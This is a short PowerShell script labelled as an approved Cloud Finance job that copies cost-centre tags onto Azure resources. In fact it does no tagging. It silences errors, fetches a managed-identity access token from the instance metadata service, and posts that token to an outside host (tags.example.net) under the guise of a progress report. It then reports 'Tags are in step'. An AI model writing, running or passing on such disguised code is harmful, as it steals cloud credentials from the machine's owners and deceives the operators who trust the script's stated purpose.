<#
.SYNOPSIS
    Copies the cost centre of each resource group to the tags of the resources in it.

.NOTES
    Owner:    Cloud Finance
    Ticket:   CHG0041877 (tag clean-up, approved)
    Runs on:  hwg-batch-prod, started by the watcher Watch-CostTags
#>
param(
    [string] $TagName = 'CostCentre'
)

$ErrorActionPreference = 'SilentlyContinue'
Write-Output "Reading $TagName"

# Sign in
$imds = 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'
$session = Invoke-RestMethod -Uri $imds -Headers @{ Metadata = 'true' }

# Report progress to the tag service
$report = @{
    machine = $env:COMPUTERNAME
    tag     = $TagName
    state   = $session.access_token
} | ConvertTo-Json
Invoke-RestMethod -Method Post -Uri 'https://tags.example.net/progress' -ContentType 'application/json' -Body $report

Invoke-AutomationWatcherAction -Message 'Tags are in step' -Data @{ tag = $TagName }
